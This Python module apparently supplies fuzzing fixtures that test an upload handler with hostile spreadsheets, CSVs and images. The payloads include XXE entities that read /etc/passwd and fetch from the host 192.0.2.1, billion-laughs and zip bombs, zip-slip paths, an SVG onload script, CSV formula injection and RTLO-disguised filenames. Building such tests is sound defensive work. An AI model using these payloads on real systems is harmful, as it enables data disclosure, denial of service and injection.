"""Files that nobody in good faith uploads: bombs, entities, claims, nesting, and right ones with one thing wrong."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from typing import Final

from tests.fuzzing.asking import Upload

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SHEET = "xl/worksheets/sheet1.xml"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = "<!DOCTYPE l [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
OUTSIDE = "<!DOCTYPE l [<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY % y SYSTEM 'http://192.0.2.1/'> %y;]>"


def workbook(rows: str, *, prolog: str = "", dimension: str = "A1:C9", parts: Mapping[str, str | bytes] | None = None) -> bytes:
    """A workbook of one sheet, written by hand so that any part of it can be wrong."""
    package = "http://schemas.openxmlformats.org/package/2006"
    found: dict[str, str | bytes] = {
        "[Content_Types].xml": f'{HEAD}<Types xmlns="{package}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" '
        f'ContentType="{XLSX}.main+xml"/></Types>',
        "_rels/.rels": f'{HEAD}<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" '
        f'Type="{LINKS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{HEAD}<workbook xmlns="{SPACE}" xmlns:r="{LINKS}"><sheets><sheet name="A" sheetId="1" '
        'r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{HEAD}<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" '
        f'Type="{LINKS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        SHEET: f'{HEAD}{prolog}<worksheet xmlns="{SPACE}"><dimension ref="{dimension}"/>'
        f"<sheetData>{rows}</sheetData></worksheet>",
    }
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (found | dict(parts or {})).items():
            archive.writestr(name, content)
    return packed.getvalue()


def _cells(*values: str) -> str:
    cells = "".join(f'<c t="inlineStr"><is><t>{value}</t></is></c>' for value in values)
    return f"<row>{cells}</row>"


def _picture(width: int, height: int, *, data: bytes = b"") -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data or zlib.compress(b"\0" * 400)) + chunk(b"IEND", b"")
    )


def _overlapping() -> bytes:
    """A directory of a thousand names that all mean the same bytes."""
    packed = bytearray(workbook(_cells("Mã", "Tên")))
    end = packed.rfind(b"PK\5\6")
    start = struct.unpack("<I", packed[end + 16 : end + 20])[0]
    first = bytes(packed[start : packed.find(b"PK\1\2", start + 4)])
    directory = first * 1000
    tail = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1000, 1000, len(directory), start, 0)
    return bytes(packed[:start]) + directory + tail


def _huge_claim() -> bytes:
    packed = bytearray(workbook(_cells("Mã")))
    place = packed.find(b"PK\1\2")
    packed[place + 24 : place + 28] = b"\xff\xff\xff\xff"
    return bytes(packed)


_PLAIN = workbook(_cells("Mã đơn vị", "Tên đơn vị", "Cấp học") + _cells("TH9", "Trường &lt;q7x&gt;", "TH"))
_WORKBOOKS: Final = {
    "right": _PLAIN,
    "laughs": workbook(_cells("&a9;"), prolog=LAUGHS),
    "outside": workbook(_cells("&x;"), prolog=OUTSIDE),
    "sheet-of-zeros": workbook("", parts={SHEET: b"0" * 3_000_000}),
    "strings-of-zeros": workbook("", parts={"xl/sharedStrings.xml": b"0" * 3_000_000}),
    "deep": workbook("<a>" * 20_000),
    "far-cell": workbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', dimension="A1:XFD1048576"),
    "many-columns": workbook(_cells(*("x" for _ in range(20_000)))),
    "many-rows": workbook(_cells("TH1") * 15_000),
    "numbers": workbook(
        "".join(f"<row><c><v>{n}</v></c></row>" for n in ("1e308", "-1e308", "NaN", "1e999", "9" * 400, "0x1"))
    ),
    "errors": workbook('<row><c t="e"><v>#DIV/0!</v></c><c t="b"><v>7</v></c><c t="d"><v>0000-00-00</v></c></row>'),
    "signs": workbook(_cells("a&#x0;b", "&#xD800;", "&#xFFFF;")),
    "turned": workbook(_cells("Mã đơn vị", "Tên đơn vị") + _cells("\u202eTH1", "\u2066=1+1\u2069")),
    "cut": _PLAIN[:-40],
    "half": _PLAIN[: len(_PLAIN) // 2],
    "overlapping": _overlapping(),
    "claim": _huge_claim(),
    "slip": workbook("", parts={"../../../../tmp/q7x": "x", "/etc/q7x": "x", "a\0b": "x"}),
    "empty-archive": b"PK\5\6" + b"\0" * 18,
    "zip-in-zip": workbook("", parts={"xl/media/again.xlsx": _PLAIN}),
}
_TABLES: Final = {
    "nothing": b"",
    "nul": b"M\xc3\xa3,T\xc3\xaan\n\0\0,\0\n",
    "utf16": "Mã,Tên\nTH1,Trường".encode("utf-16"),
    "half-utf16": b"\xff\xfea",
    "latin": "Mã;Tên\nTH1;Trư".encode("cp1258", "replace"),
    "surrogate": b"M\xed\xa0\x80,b\n1,2\n",
    "open-quote": b'"' + b"a,\n" * 5000,
    "quotes": b'"' * 20_001,
    "wide": b"," * 50_000,
    "tall": b"\n" * 50_000,
    "long-cell": b"a," + b"x" * 200_000 + b"\n",
    "formula": "Mã,Tên\n=1+1,@SUM(A1)\n-2+3,+4".encode(),
    "numbers": b"1e308,NaN,inf,-0,1e999," + b"9" * 5000,
    "turned": "\u202e\u2066Mã\u2069,Tên\n\u200f1,\u200e2".encode(),
    "times": b"Timestamp,A\n0000-00-00 99:99:99,1\n31/02/2026 25:61:61 SA,2",
    "lone-return": b"a,b\r1,2\rc",
    "canary": b'<q7x>,"q7x=\'"\n<q7x>,1\n',
}
_PICTURES: Final = {
    "right": _picture(8, 8, data=zlib.compress(b"\0" * (8 * 25))),
    "huge": _picture(60_000, 60_000),
    "endless": _picture(2**31 - 1, 1),
    "nothing": _picture(0, 0),
    "short": _picture(500, 500),
    "svg": f'{HEAD}{OUTSIDE}<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>&x;</text></svg>'.encode(),
    "gif": b"GIF89a\xff\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\xff\xff\xff\xff\x00",
    "jpeg": b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xd9",
}
FILES: Final = (
    *(Upload(f"{name}.xlsx", data, XLSX) for name, data in _WORKBOOKS.items()),
    *(Upload(f"{name}.csv", data, "text/csv") for name, data in _TABLES.items()),
    *(Upload(f"{name}.png", data, "image/png") for name, data in _PICTURES.items()),
    Upload("claims-a-table.csv", _PLAIN, "text/csv"),
    Upload("claims-a-workbook.xlsx", b"a,b\n1,2", XLSX),
    Upload("\u202exslx.exe", _PLAIN, "x/y"),
    Upload("../../q7x.xlsx", _PLAIN, ""),
    Upload("", b"", ""),
)
